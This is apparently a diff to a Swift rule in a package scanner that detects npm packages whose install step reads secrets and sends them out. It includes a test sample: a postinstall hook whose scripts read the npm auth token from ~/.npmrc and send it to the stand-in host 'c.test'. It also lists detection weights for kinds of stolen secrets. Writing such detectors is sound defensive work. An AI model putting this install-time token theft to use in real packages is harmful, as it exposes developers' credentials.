@@ -26,7 +26,8 @@ package struct InstallSendsSecrets: Rule {
                 .sample([
                     "package.json": #"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node a.js"}}"#,
                     "a.js": "const t = require('./b').read(); require('https').request({host:'c.test'}).end(t);",
-                    "b.js": "exports.read = () => require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');",
+                    "b.js":
+                        "exports.read = () => require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8').match(/_authToken=(.*)/)[1];",
                 ])),
         ],
         staysSilent: [
@@ -46,11 +47,23 @@ package struct InstallSendsSecrets: Rule {
         let signs = facts.installSigns
         guard !signs.isDisjoint(with: .network) else { return [] }
         let kinds: [(sign: Sign, words: String, weight: Double)] = [
-            (.wholeEnvironment, "the whole environment", 0.7), (.npmCredential, "npm credentials", 0.6),
+            (.wholeEnvironment, "the whole environment", 0.7), (.npmCredential, "npm credentials", 0.6), (.npmConfiguration, ".npmrc", 0.4),
             (.developerCredential, "developer keys", 0.6), (.wallet, "wallets", 0.3),
         ]
-        let found = kinds.filter { signs.contains($0.sign) && reached($0.sign, facts) }
-        guard !found.isEmpty else { return [] }
+        let found = kinds.filter { signs.contains($0.sign) }
+        // `.npmrc` holds settings too, and words of wallets stand in certificate tools: by themselves they count only where
+        // the same file reaches the network.
+        let isTelling = found.contains { kind in
+            switch kind.sign {
+            case .wallet: false
+            case .npmConfiguration:
+                facts.nearInstallFiles.contains { file in
+                    Sign.reachingNetwork.contains { file.scan?.chain([.npmConfiguration, $0]) == true }
+                }
+            default: true
+            }
+        }
+        guard isTelling else { return [] }
         let strength = found.reduce(0) { $0 + $1.weight } + (signs.contains(.decodes) || signs.contains(.encodes) ? 0.2 : 0)
         return [
             card.finding(
@@ -58,12 +71,6 @@ package struct InstallSendsSecrets: Rule {
                 evidence: facts.installEvidence(found.map(\.sign) + Sign.reachingNetwork + [.encodes]),
                 meaning: "Whoever installed it should take those secrets for known to others.")
         ]
-    }
-
-    /// Far down the tree of required files everything meets; only what is near the install command counts.
-    private func reached(_ sign: Sign, _ facts: ReleaseFacts) -> Bool {
-        facts.commandScans.contains { $0.allSigns.contains(sign) }
-            || facts.installTime.contains { $0.value.depth <= 3 && facts.files[$0.key].scan?.allSigns.contains(sign) == true }
     }
 }
 
